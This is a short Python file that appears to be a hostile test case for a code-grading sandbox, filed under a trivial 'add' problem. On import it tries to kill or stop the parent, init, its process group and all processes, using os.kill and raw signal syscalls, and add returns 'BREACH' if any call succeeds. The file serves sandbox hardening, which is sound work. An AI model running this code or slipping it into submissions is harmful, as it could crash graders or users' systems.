"""Kill the worker.

problem: add
tries: signal the worker, its group and everyone, by every call that sends signals
sound: pass
"""
import ctypes, os, signal

DONE = []
libc = ctypes.CDLL(None, use_errno=True)
SIGINFO = ctypes.create_string_buffer(128)
for pid in {os.getppid(), 1, 0, -1, -os.getpgrp(), -os.getppid()}:
    if pid == os.getpid():
        continue
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        try:
            os.kill(pid, number)
            DONE.append(("kill", pid))
        except OSError:
            pass
        for call in ((200, pid, number), (234, pid, pid, number), (129, pid, number, SIGINFO), (297, pid, pid, number, SIGINFO)):
            if libc.syscall(*call) == 0:
                DONE.append(call)

def add(a, b):
    return "BREACH" if DONE else a + b
